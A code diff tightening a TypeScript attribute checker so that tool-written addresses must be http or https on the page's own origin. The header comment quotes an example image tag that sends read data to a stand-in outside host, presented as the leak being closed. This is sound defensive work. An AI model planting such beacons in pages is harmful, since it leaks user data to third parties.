@@ -1,5 +1,6 @@
-// What a tool may write into the page. It is the host's page: nothing written there may become code, load from
-// elsewhere on its own, or lead anywhere but http and https.
+// What a tool may write into the page. It is the host's page: nothing written there may become code, or name another
+// host. `<img src="https://elsewhere.example/?what-it-read">` is a way out that no one granted, and so is a link that the
+// tool writes and clicks.
 
 import { wrong } from "./text.ts";
 
@@ -57,15 +58,16 @@ export function checkAttribute(element: Element, name: string, value: string): v
   if (!/^[a-z][a-z0-9_:.-]*$/.test(low) || low.startsWith("on") || NEVER.includes(low)) {
     throw wrong(`The attribute \`${name.slice(0, 60)}\` is never set by a tool`);
   }
-  if (ADDRESSES.includes(low) && !isWebAddress(value)) {
-    throw wrong(`\`${low}\` takes an address of http or https`);
+  if (ADDRESSES.includes(low) && !isOwnAddress(value)) {
+    throw wrong(`\`${low}\` takes an address of http or https on this page's own origin`);
   }
 }
 
 /** As the browser would read it, where it would be used. */
-export function isWebAddress(value: string): boolean {
+function isOwnAddress(value: string): boolean {
   try {
-    return /^https?:$/.test(new URL(value, document.baseURI).protocol);
+    const { origin, protocol } = new URL(value, document.baseURI);
+    return /^https?:$/.test(protocol) && origin === location.origin;
   } catch {
     return false;
   }
